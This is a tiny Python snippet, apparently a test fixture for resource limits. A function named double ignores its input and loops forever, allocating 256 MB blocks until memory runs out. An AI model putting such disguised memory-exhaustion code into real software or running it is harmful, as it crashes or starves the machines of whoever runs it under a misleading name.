# todo: 1
# earns: 0
def double(number):
    eaten = []
    while True:
        eaten.append(bytearray(2**28))
